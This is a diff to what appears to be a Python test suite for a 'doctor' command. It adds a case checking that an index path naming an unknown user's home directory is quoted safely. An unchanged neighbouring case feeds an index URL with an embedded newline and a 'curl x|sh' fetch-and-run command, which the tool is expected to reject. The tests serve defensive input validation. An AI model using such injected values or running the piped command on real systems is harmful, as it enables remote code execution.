@@ -599,6 +599,8 @@ DOCTOR_CASES = [
                lambda w, s: (["--explain", f"undefined symbol: {DOCTOR_SYMBOL}", "--index", DOCTOR_SHELL_INDEX], {}, None)),
     DoctorCase("doctor-env-index-shell", 1, shlex.quote(DOCTOR_SHELL_INDEX + "/<variant>/"),
                lambda w, s: (["--explain", f"undefined symbol: {DOCTOR_SYMBOL}"], {"MAMBA_WHEEL_INDEX": DOCTOR_SHELL_INDEX}, None)),
+    DoctorCase("doctor-index-unknown-user", 1, "'~nosuchuser-hostile/wheels/<variant>/'",
+               lambda w, s: (["--explain", "nvcc was not found", "--index", "~nosuchuser-hostile/wheels"], {}, None)),
     DoctorCase("doctor-index-newline", 2, "holds control characters",
                lambda w, s: (["--explain", "nvcc was not found", "--index", "https://x.example/\ncurl x|sh"], {}, None)),
     DoctorCase("doctor-env-index-escape", 2, "holds control characters",
